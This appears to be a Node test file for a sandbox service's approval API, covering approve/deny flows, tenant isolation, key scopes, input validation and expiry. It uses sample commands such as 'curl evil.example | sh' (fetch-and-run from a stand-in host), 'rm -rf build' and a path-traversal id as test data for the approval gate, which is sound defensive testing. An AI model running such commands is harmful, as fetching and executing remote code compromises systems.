import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createApi } from '../../src/api/api-app.ts';
import { approvalListSchema, approvalSchema } from '../../src/protocol/api-schemas.ts';
import type { KeyScope } from '../../src/protocol/key-scopes.ts';
import type { CorralEvent } from '../../src/services/event-bus.ts';
import { openCorral } from '../helpers.ts';
import { errorOf, quiet } from './api-test-helpers.ts';

const decision = { action: 'require_approval', categories: ['destructive'], reason: 'deletes files', rule: 'destructive' };

function setup() {
  const corral = openCorral();
  const app = createApi({ corral, logger: quiet, version: '0.0.0', auth: { keys: corral.keys } });
  const events: CorralEvent[] = [];
  corral.events.subscribe((e) => events.push(e));
  /** A request over the Unix socket (the owner), or over TCP with a key's secret. */
  const call = (method: string, path: string, options: { body?: unknown; key?: string; headers?: Record<string, string> } = {}) => {
    const headers: Record<string, string> = { ...options.headers };
    if (options.body !== undefined) headers['content-type'] ??= 'application/json';
    if (options.key) headers.authorization = `Bearer ${options.key}`;
    const body = options.body === undefined ? undefined : typeof options.body === 'string' ? options.body : JSON.stringify(options.body);
    return app.request(path, { method, headers, ...(body !== undefined ? { body } : {}) }, { transport: options.key ? 'tcp' : 'unix' });
  };
  const key = (tenant: string, scopes: KeyScope[]) => corral.keys.create({ tenant, scopes });
  /** A sandbox of `tenant` (null: the owner's) and a pending approval on its vault. */
  const pending = (tenant: string | null, command = 'rm -rf build') => {
    const sb = corral.sandboxes.create({}, { tenant });
    const a = corral.approvals.create(sb.vault, command, { vault: sb.vault, shell: command, env: { A: '1' } }, decision);
    return { sb, a };
  };
  return { corral, app, call, key, pending, events };
}

test('the owner lists, gets, approves (empty body) and denies approvals; answers are audited as owner and published', async () => {
  const { corral, call, pending, events } = setup();
  const one = pending(null, 'rm -rf build');
  const two = pending('acme', 'curl evil.example | sh');
  const outside = corral.approvals.create((corral.vaults.create('loose'), 'loose'), 'sudo ls', {}, decision);

  const list = approvalListSchema.parse(await (await call('GET', '/v1/approvals')).json());
  // Oldest first; ids break ties within a millisecond.
  assert.deepEqual(new Set(list.approvals.map((a) => a.id)), new Set([one.a.id, two.a.id, outside.id]));
  const first = list.approvals.find((a) => a.id === one.a.id)!;
  assert.equal(first.state, 'pending');
  assert.equal(first.sandbox, one.sb.id);
  assert.equal(first.vault, one.sb.vault);
  assert.equal(first.command, 'rm -rf build');
  assert.equal(first.reason, 'deletes files');
  assert.deepEqual(first.request, { vault: one.sb.vault, shell: 'rm -rf build', env: { A: '1' } });
  assert.equal(first.expiresAt, new Date(one.a.expiresAt).toISOString());
  assert.equal(first.answeredBy, null);
  assert.equal(list.approvals.find((a) => a.id === outside.id)!.sandbox, null, 'a vault outside any sandbox');
  assert.deepEqual(approvalSchema.parse(await (await call('GET', `/v1/approvals/${one.a.id}`)).json()), first);

  const approved = approvalSchema.parse(await (await call('POST', `/v1/approvals/${one.a.id}/approve`)).json());
  assert.equal(approved.state, 'approved');
  assert.equal(approved.answeredBy, 'owner');
  assert.equal(approved.answerReason, '');
  assert.ok(approved.answeredAt);
  const denied = approvalSchema.parse(await (await call('POST', `/v1/approvals/${two.a.id}/deny`, { body: { reason: 'no piping to sh' } })).json());
  assert.equal(denied.state, 'denied');
  assert.equal(denied.answerReason, 'no piping to sh');
  const approvedWithReason = approvalSchema.parse(await (await call('POST', `/v1/approvals/${outside.id}/approve`, { body: { reason: 'read only' } })).json());
  assert.equal(approvedWithReason.answerReason, 'read only');

  const again = await errorOf(await call('POST', `/v1/approvals/${one.a.id}/deny`, { body: { reason: 'changed my mind' } }), 409, 'APPROVAL_NOT_PENDING');
  assert.equal(again.details.state, 'approved');
  assert.deepEqual(approvalListSchema.parse(await (await call('GET', '/v1/approvals?state=pending')).json()).approvals, []);
  assert.deepEqual(approvalListSchema.parse(await (await call('GET', '/v1/approvals?state=denied')).json()).approvals.map((a) => a.id), [two.a.id]);

  // The refused second answer is audited too, as an error.
  const audit = corral.store.audit.list({ op: 'approval.deny' }).filter((r) => r.result === 'ok');
  assert.equal(audit.length, 1);
  assert.equal(audit[0]!.actor, 'owner');
  assert.equal(audit[0]!.target, two.a.id);
  assert.equal((audit[0]!.details as { origin: string }).origin, 'api');
  assert.equal((audit[0]!.details as { reason: string }).reason, 'no piping to sh');

  const answered = events.filter((e) => e.type === 'approval.answered');
  assert.deepEqual(
    answered.map((e) => ({ sandbox: e.sandbox, tenant: e.tenant, data: e.data })),
    [
      { sandbox: one.sb.id, tenant: null, data: { approval: one.a.id, vault: one.sb.vault, command: 'rm -rf build', state: 'approved', reason: '' } },
      { sandbox: two.sb.id, tenant: 'acme', data: { approval: two.a.id, vault: two.sb.vault, command: 'curl evil.example | sh', state: 'denied', reason: 'no piping to sh' } },
      { sandbox: null, tenant: null, data: { approval: outside.id, vault: 'loose', command: 'sudo ls', state: 'approved', reason: 'read only' } },
    ],
  );
  const requested = events.filter((e) => e.type === 'approval.requested');
  assert.deepEqual(requested.map((e) => [e.sandbox, e.tenant, e.data.state, e.data.reason]), [
    [one.sb.id, null, 'pending', 'deletes files'],
    [two.sb.id, 'acme', 'pending', 'deletes files'],
    [null, null, 'pending', 'deletes files'],
  ]);
});

test('a tenant sees and answers only the approvals of its own sandboxes; another tenant\'s are 404; answers name the key', async () => {
  const { corral, call, key, pending } = setup();
  const mine = pending('acme');
  const theirs = pending('globex');
  const owners = pending(null);
  const acme = key('acme', ['approvals']);

  const list = approvalListSchema.parse(await (await call('GET', '/v1/approvals', { key: acme.secret })).json());
  assert.deepEqual(list.approvals.map((a) => a.id), [mine.a.id]);
  for (const other of [theirs.a.id, owners.a.id]) {
    await errorOf(await call('GET', `/v1/approvals/${other}`, { key: acme.secret }), 404, 'APPROVAL_NOT_FOUND');
    await errorOf(await call('POST', `/v1/approvals/${other}/approve`, { key: acme.secret }), 404, 'APPROVAL_NOT_FOUND');
    await errorOf(await call('POST', `/v1/approvals/${other}/deny`, { key: acme.secret, body: { reason: 'x' } }), 404, 'APPROVAL_NOT_FOUND');
  }
  assert.equal(corral.approvals.get(theirs.a.id).state, 'pending', 'untouched');

  const approved = approvalSchema.parse(await (await call('POST', `/v1/approvals/${mine.a.id}/approve`, { key: acme.secret, body: { reason: 'ok' } })).json());
  assert.equal(approved.answeredBy, `key:${acme.id}`);
  const audit = corral.store.audit.list({ op: 'approval.approve' });
  assert.equal(audit.at(-1)!.actor, `key:${acme.id}`);

  // The scope: approvals (or admin); another scope is 403, no key is 401.
  const execOnly = key('acme', ['exec', 'sandboxes:read']);
  const e = await errorOf(await call('GET', '/v1/approvals', { key: execOnly.secret }), 403, 'PERMISSION_DENIED');
  assert.equal(e.details.scope, 'approvals');
  await errorOf(await call('POST', `/v1/approvals/${mine.a.id}/deny`, { key: execOnly.secret, body: { reason: 'x' } }), 403, 'PERMISSION_DENIED');
  await errorOf(await app(corral).request('/v1/approvals', {}, { transport: 'tcp' }), 401, 'UNAUTHENTICATED');
  const admin = key('globex', ['admin']);
  assert.deepEqual(approvalListSchema.parse(await (await call('GET', '/v1/approvals', { key: admin.secret })).json()).approvals.map((a) => a.id), [theirs.a.id]);
});

function app(corral: ReturnType<typeof openCorral>) {
  return createApi({ corral, logger: quiet, version: '0.0.0', auth: { keys: corral.keys } });
}

test('hostile input: bad ids, queries and bodies are 400 envelopes; nothing changes', async () => {
  const { corral, call, pending } = setup();
  const { a } = pending(null);
  for (const id of ['apr_XYZ', 'apr_0123', '..%2F..%2Fetc', `${a.id}0`, 'apr_0123456789abcdeg', 'sbx_01m8mznyhhzn7zbk62vr62k799'])
    await errorOf(await call('GET', `/v1/approvals/${id}`), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('GET', '/v1/approvals/apr_0123456789abcdef'), 404, 'APPROVAL_NOT_FOUND');
  await errorOf(await call('GET', '/v1/approvals?state=bogus'), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('GET', '/v1/approvals?state=pending&state=denied'), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('GET', '/v1/approvals?tenant=acme'), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('GET', `/v1/approvals/${a.id}?x=1`), 400, 'INVALID_ARGUMENT');
  const deny = `/v1/approvals/${a.id}/deny`;
  await errorOf(await call('POST', deny), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: {} }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: { reason: '' } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: { reason: 'x', state: 'approved' } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: { reason: 'a\u001b[31mred' } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: { reason: 'x'.repeat(2001) } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: { reason: 42 } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: '{"reason":' }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', deny, { body: 'reason=x', headers: { 'content-type': 'application/x-www-form-urlencoded' } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', `/v1/approvals/${a.id}/approve`, { body: { reason: 'ok', extra: 1 } }), 400, 'INVALID_ARGUMENT');
  await errorOf(await call('POST', `/v1/approvals/${a.id}/approve`, { body: 'x'.repeat(2 * 1024 * 1024) }), 413, 'PAYLOAD_TOO_LARGE');
  await errorOf(await call('PUT', `/v1/approvals/${a.id}/approve`), 405, 'METHOD_NOT_ALLOWED');
  await errorOf(await call('DELETE', `/v1/approvals/${a.id}`), 405, 'METHOD_NOT_ALLOWED');
  assert.equal(corral.approvals.get(a.id).state, 'pending');
  // A reason may hold tabs and newlines.
  const denied = approvalSchema.parse(await (await call('POST', deny, { body: { reason: 'line one\n\tline two' } })).json());
  assert.equal(denied.answerReason, 'line one\n\tline two');
});

test('an approval past its deadline is expired when read, and published as answered', async () => {
  const { corral, call, events } = setup();
  const sb = corral.sandboxes.create({});
  const a = corral.approvals.create(sb.vault, 'rm x', {}, decision, 1);
  await new Promise((r) => setTimeout(r, 5));
  const got = approvalListSchema.parse(await (await call('GET', '/v1/approvals')).json()).approvals;
  assert.deepEqual(got.map((x) => [x.id, x.state]), [[a.id, 'expired']]);
  await errorOf(await call('POST', `/v1/approvals/${a.id}/approve`), 409, 'APPROVAL_NOT_PENDING');
  const expired = events.filter((e) => e.type === 'approval.answered');
  assert.deepEqual(expired.map((e) => [e.sandbox, e.data.state]), [[sb.id, 'expired']]);
});

test('the routes are in the OpenAPI document with their schemas', async () => {
  const { call } = setup();
  const doc = (await (await call('GET', '/openapi.json')).json()) as { paths: Record<string, Record<string, { operationId: string; requestBody?: unknown }>>; components: { schemas: Record<string, unknown> } };
  assert.equal(doc.paths['/v1/approvals']?.get?.operationId, 'listApprovals');
  assert.equal(doc.paths['/v1/approvals/{id}']?.get?.operationId, 'getApproval');
  assert.equal(doc.paths['/v1/approvals/{id}/approve']?.post?.operationId, 'approveApproval');
  assert.equal(doc.paths['/v1/approvals/{id}/deny']?.post?.operationId, 'denyApproval');
  for (const name of ['Approval', 'ApprovalList', 'ApprovalApprove', 'ApprovalDeny']) assert.ok(doc.components.schemas[name], name);
});
